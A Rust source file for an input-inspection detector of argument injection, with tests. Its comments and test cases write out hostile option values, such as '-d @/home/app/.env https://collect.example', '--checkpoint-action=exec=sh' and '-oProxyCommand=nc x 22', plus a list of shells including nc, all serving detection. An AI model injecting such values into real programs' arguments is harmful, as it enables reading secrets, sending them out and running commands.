//! Argument injection: a value that a program receives as an argument of its command line
//! (`git clone URL`, `curl URL`, `tar -cf NAME`, `ssh HOST`) and that starts with `-`, so the
//! program reads it as an option. No shell is involved (the application passes an argument
//! vector), so the shell grammar of `cmdi` sees nothing; the harm is in what the option does
//! with its own argument: write a file (`--output=/var/www/x.php`, `-o /etc/cron.d/x`), read
//! one (`-d @/etc/passwd`, `--post-file=/etc/passwd`, `-T /etc/shadow`), fetch a configuration
//! or code (`--config=http://...`), or run a program (`--exec=id`, `-e /bin/sh`,
//! `--checkpoint-action=exec=sh`).
//!
//! Every option of the value is read (`-x ARG`, `-xARG`, `--name=ARG`, `--name ARG`), and one
//! counts when its argument is an absolute path of two or more segments, a URL, a file
//! reference `@/path`, or a program run by name (an `exec=`, a shell). Values that only start
//! with a dash (`-1`, `-12.5 %`, `- item`, `-apple-system, sans-serif`, `--primary-color`) have
//! no such argument.

use crate::other_util::{gate, mk, step};
use crate::{Category, Detector, FieldKind, Gate, Hit, Input, Level};

const NAME: &str = "argument";

pub struct ArgumentDetector;

pub fn detector() -> Box<dyn Detector> {
    Box::new(ArgumentDetector)
}

/// The pre-filter declared to the engine ([`Gate`]): every finding needs the value to start
/// (after blanks) with `-`.
const GATE: Gate = Gate { bytes: "", anchors: &[], words: &[], test: Some(starts_with_dash), test_bytes: "-", test_only: "" };

fn starts_with_dash(s: &str) -> bool {
    s.trim_start().starts_with('-')
}

impl Detector for ArgumentDetector {
    fn name(&self) -> &'static str {
        NAME
    }

    fn gate(&self) -> Option<Gate> {
        Some(GATE)
    }

    /// A value an application hands to a program: parameters, fields and keys' values, not
    /// headers (whose dashes are the header's own grammar) or whole documents.
    fn applies_to(&self, field: FieldKind) -> bool {
        !matches!(field, FieldKind::Header | FieldKind::Body | FieldKind::XmlDocument | FieldKind::JsonKey | FieldKind::QueryName | FieldKind::FormName)
    }

    fn check(&self, input: &Input<'_>, level: Level) -> Option<Hit> {
        gate(analyse(input.decoded), level)
    }
}

/// Programs an option runs by name.
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "/bin/sh", "/bin/bash", "id", "cmd", "cmd.exe", "powershell", "python", "perl", "nc"];

/// Whether `arg` (an option's argument) names a file by an absolute path of two or more
/// segments, a URL, a file reference `@/path` (curl), or runs a program (`exec=...`, a shell).
fn harmful(arg: &str) -> bool {
    let arg = arg.trim_matches(['"', '\'']);
    let path = |p: &str| p.starts_with('/') && p[1..].split('/').filter(|s| !s.is_empty()).count() >= 2;
    let word = arg.split([' ', '\t']).next().unwrap_or("");
    path(word)
        || word.strip_prefix('@').is_some_and(path)
        || arg.find("://").is_some_and(|p| p > 0 && arg[..p].bytes().all(|b| b.is_ascii_alphabetic()))
        || arg.starts_with("exec=")
        || arg.starts_with("exec:")
        || SHELLS.contains(&word)
}

/// Whether an option's name says that it runs its argument as a command (`--exec`,
/// `--to-command`, `--use-compress-program`, `--upload-pack`, ssh's `-oProxyCommand`).
fn runs(name: &str) -> bool {
    let l = name.to_ascii_lowercase();
    ["exec", "command", "program", "pack"].iter().any(|w| l.contains(w))
}

fn analyse(s: &str) -> Option<Hit> {
    let t = s.trim();
    if !t.starts_with('-') || t.len() > 4096 {
        return None;
    }
    step(t.len());
    // The words with their offsets (the first 32: a command line's options come first).
    let mut words: Vec<(usize, &str)> = Vec::new();
    let mut at = 0;
    for w in t.split([' ', '\t']) {
        if !w.is_empty() {
            words.push((at, w));
            if words.len() == 32 {
                break;
            }
        }
        at += w.len() + 1;
    }
    for (i, &(_, w)) in words.iter().enumerate() {
        let (next_at, next) = words.get(i + 1).copied().unwrap_or((t.len(), ""));
        // The rest of the value after this word (an option's argument may hold blanks),
        // bounded.
        let rest = crate::truncate(&t[next_at..], 512);
        let found = if let Some(long) = w.strip_prefix("--") {
            let name_len = long.bytes().take_while(|b| b.is_ascii_alphanumeric() || *b == b'-').count();
            let name = &long[..name_len];
            name.len() >= 2
                && name.as_bytes()[0].is_ascii_alphabetic()
                && match long[name_len..].strip_prefix('=') {
                    Some(arg) => harmful(arg) || (runs(name) && !arg.is_empty()),
                    None => name_len == long.len() && !next.starts_with('-') && (harmful(rest) || (runs(name) && !rest.is_empty())),
                }
        } else if let Some(short) = w.strip_prefix('-') {
            let letter = short.as_bytes().first().is_some_and(u8::is_ascii_alphabetic);
            letter
                && if short.len() == 1 {
                    harmful(rest)
                } else {
                    // `-oProxyCommand=...`, `-d@/etc/passwd`: the argument attached.
                    let attached = &short[1..];
                    harmful(attached) || attached.split_once('=').is_some_and(|(n, a)| harmful(a) || (runs(n) && !a.is_empty()))
                }
        } else {
            false
        };
        if found {
            return Some(mk(NAME, Category::Cmdi, 70, s, "option injected into a program's arguments"));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::other_util::take_steps;

    fn q(v: &str) -> u8 {
        detector().check(&Input { raw: v, decoded: v, field: FieldKind::JsonValue }, Level::Strict).map_or(0, |h| h.confidence)
    }

    /// Written for this rule: options that write, read, fetch or run through their argument.
    #[test]
    fn options_with_a_harmful_argument() {
        for v in [
            "--output=/srv/www/up.php",
            "-o /etc/profile.d/x.sh",
            "-d @/home/app/.env https://collect.example",
            "--post-file=/var/lib/db",
            "--config=https://cfg.example/c",
            "-e /bin/bash",
            "--exec=whoami",
            "--checkpoint=1 --checkpoint-action=exec=sh run.sh",
            "-Ffile=@/root/key x",
            "--use-compress-program sh",
            "-T /etc/group ftp://up.example/",
            "-oProxyCommand=nc x 22",
            "--upload-pack=touch here",
        ] {
            assert!(q(v) >= 60, "{v:?}: {}", q(v));
        }
    }

    /// Values that only start with a dash: numbers, list items, CSS, flags with plain values.
    #[test]
    fn dashes_that_are_not_options_with_a_harmful_argument() {
        for v in [
            "-1",
            "-12.5 %",
            "- buy milk",
            "-apple-system, BlinkMacSystemFont, sans-serif",
            "--primary-color",
            "-webkit-box",
            "--verbose",
            "-n 10",
            "--depth=1",
            "--format=json",
            "-o output.txt",
            "--- a/src/main.rs",
            "-- comment",
            "-x /",
        ] {
            assert_eq!(q(v), 0, "{v:?}");
        }
        // A header's dashes are its own grammar: the detector is not shown headers.
        assert!(!detector().applies_to(FieldKind::Header) && detector().applies_to(FieldKind::QueryValue));
    }

    #[test]
    fn linear() {
        for unit in ["-a ", "--x=", "- "] {
            let v = unit.repeat(100_000 / unit.len());
            take_steps();
            let _ = detector().check(&Input { raw: &v, decoded: &v, field: FieldKind::QueryValue }, Level::Strict);
            assert!(take_steps() < 80 * v.len() as u64, "{unit}");
        }
    }
}
